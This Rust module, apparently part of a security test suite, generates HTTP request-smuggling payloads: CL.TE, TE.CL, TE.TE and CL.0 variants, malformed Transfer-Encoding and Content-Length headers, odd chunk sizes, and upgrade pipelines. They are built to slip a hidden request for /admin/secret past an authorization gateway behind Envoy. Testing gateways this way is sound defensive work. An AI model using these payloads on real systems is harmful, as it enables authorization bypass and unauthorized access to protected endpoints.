//! Bytes in which one server finds another number of requests than the next. What is hidden asks for the secret.

use crate::trick::{AUTHORIZATION, Trick, http1_only};

pub(super) fn add(tricks: &mut Vec<Trick>) {
    for path in ["/admin/secret", "/report"] {
        let token = String::from_utf8_lossy(AUTHORIZATION);
        // Without a token, for none is asked for where it is hidden from claimgate; and its length is known.
        let hidden = format!("GET {path} HTTP/1.1\r\nHost: api.example\r\nX: y\r\n\r\n");
        let second = format!("GET {path} HTTP/1.1\r\nHost: api.example\r\n{token}\r\n");
        let mut add = |class, method: &str, headers: &str, body: &str| {
            let start = format!("{method} /public/hello HTTP/1.1\r\nHost: api.example\r\n{token}");
            let bytes = format!("{start}{headers}\r\n\r\n{body}{LAST}");
            tricks.push(Trick { endless: true, ..http1_only(class, bytes) });
        };
        // Who goes by the length takes the rest for the body, who goes by the chunks takes it for a request.
        for coding in CODINGS {
            let chunked = format!("0\r\n\r\n{hidden}");
            add(
                "CL.TE",
                "POST",
                &format!("Content-Length: {}\r\n{coding}", chunked.len()),
                &chunked,
            );
            let chunk = format!("{:x}\r\n{hidden}\r\n0\r\n\r\n", hidden.len());
            add("TE.CL", "POST", &format!("{coding}\r\nContent-Length: 4"), &chunk);
            add("TE.TE", "POST", &format!("Transfer-Encoding: chunked\r\n{coding}"), &chunked);
            add("TE.TE", "POST", &format!("{coding}\r\nTransfer-Encoding: identity"), &chunked);
            add("TE.0", "POST", coding, &chunk);
        }
        for length in LENGTHS {
            let length = length.replace("{n}", &hidden.len().to_string());
            for method in ["GET", "POST", "HEAD", "OPTIONS"] {
                add("CL.0 and odd lengths", method, &length, &hidden);
            }
        }
        for size in SIZES {
            let size = size.replace("{n}", &format!("{:x}", hidden.len()));
            let body = format!("{size}\r\n{hidden}\r\n0\r\n\r\n");
            add("chunk extensions and sizes", "POST", "Transfer-Encoding: chunked", &body);
            let body = format!(
                "0{}\r\n\r\n{hidden}",
                size.trim_start_matches(|c: char| c.is_ascii_hexdigit())
            );
            add("chunk extensions and sizes", "POST", "Transfer-Encoding: chunked", &body);
        }
        for end in [
            "0\r\n\r\n",
            "0\n\n",
            "0\r\n",
            "0\r\r",
            "0\r\nX: y\r\n\r\n",
            "0\r\nX-User-Roles: admin\r\n\r\n",
            "00000000\r\n\r\n",
            "0;x\r\n\r\n",
            "0 \r\n\r\n",
        ] {
            add(
                "chunk extensions and sizes",
                "POST",
                "Transfer-Encoding: chunked",
                &format!("3\r\nabc\r\n{end}{hidden}"),
            );
            add(
                "chunk extensions and sizes",
                "POST",
                "Transfer-Encoding: chunked",
                &format!("3\nabc\n{end}{hidden}"),
            );
        }
        for header in HEADERS {
            add("pipelines and upgrades", "GET", header, &second);
            add("pipelines and upgrades", "POST", header, &second);
        }
    }
}

/// After it the connection is of no use, and Envoy hangs up.
const LAST: &str = "GET /public/hello HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n";

const CODINGS: &[&str] = &[
    "Transfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: chunked ",
    "Transfer-Encoding:\x0bchunked",
    "Transfer-Encoding: \x0cchunked",
    "Transfer-Encoding: Chunked",
    "Transfer-Encoding: CHUNKED",
    "transfer-encoding: chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunkedx",
    "Transfer-Encoding: chunk",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: 'chunked'",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding: x\r\n chunked",
    "Transfer-Encoding\r\n: chunked",
    " Transfer-Encoding: chunked",
    "X: y\r\n Transfer-Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "X: y\0\r\nTransfer-Encoding: chunked",
    "Transfer_Encoding: chunked",
    "Transfer.Encoding: chunked",
    "Transfer-Encoding\0: chunked",
    "Transfer-Encoding: chunked\0",
    "Transfer-Encoding: \u{ff}chunked",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding: ",
    "Connection: Content-Length\r\nTransfer-Encoding: chunked",
    "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    "TE: chunked",
    "Content-Encoding: chunked",
];

const LENGTHS: &[&str] = &[
    "Content-Length: {n}",
    "Content-Length: 0",
    "Content-Length: 0\r\nContent-Length: {n}",
    "Content-Length: {n}\r\nContent-Length: 0",
    "Content-Length: {n}, 0",
    "Content-Length: 0, {n}",
    "Content-Length: {n}, {n}",
    "Content-Length: +0",
    "Content-Length: +{n}",
    "Content-Length: -1",
    "Content-Length: 0x0",
    "Content-Length: 0x10",
    "Content-Length: 00",
    "Content-Length: 0{n}",
    "Content-Length: 0 ",
    "Content-Length: 0;x",
    "Content-Length: 0.0",
    "Content-Length: 1e2",
    "Content-Length: ",
    "Content-Length: x",
    "Content-Length : {n}",
    "Content-Length\t: {n}",
    " Content-Length: {n}",
    "Content-Length:\r\n {n}",
    "Content-Length: 0\r\n {n}",
    "X: y\r\n Content-Length: {n}",
    "Content_Length: {n}",
    "Content-Length\0: {n}",
    "Content-Length: 18446744073709551616",
    "Content-Length: 4294967296",
    "Content-Length: 18446744073709551615",
    "X: y\nContent-Length: {n}",
    "X: y\rContent-Length: {n}",
    "Connection: Content-Length\r\nContent-Length: {n}",
    "Content-Length: \"0\"",
    "Content-Length: \u{ff10}",
    "X: y",
];

const SIZES: &[&str] = &[
    "{n}",
    "{n};x",
    "{n};x=y",
    "{n};x=\"y\"",
    "{n};x=\"\r\n\"",
    "{n};x\ny",
    "{n};\n",
    "{n} ",
    "{n}\t",
    " {n}",
    "0{n}",
    "0x{n}",
    "+{n}",
    "-{n}",
    "{n}.",
    "{n}g",
    "{n},0",
    "00000000000000000000{n}",
    "10000000000000000",
    "ffffffffffffffff",
    "{n}\r",
    "{n};a\rb",
    "{n};\0",
    "{n};\u{ff}",
];

const HEADERS: &[&str] = &[
    "X: y",
    "Connection: keep-alive",
    "Connection: Upgrade\r\nUpgrade: h2c",
    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777",
    "Upgrade: TLS/1.0\r\nConnection: Upgrade",
    "Expect: 100-continue\r\nContent-Length: 0",
    "Expect: 100-continue",
    "Expect: x",
    "Expect: 100-continue, x",
    "Proxy-Connection: keep-alive",
    "Keep-Alive: timeout=5",
    "Range: bytes=0-",
    "X: \r\n\r\n",
    "X: y\n",
    "X: y\r\r",
    "X: y\r\n\n",
];
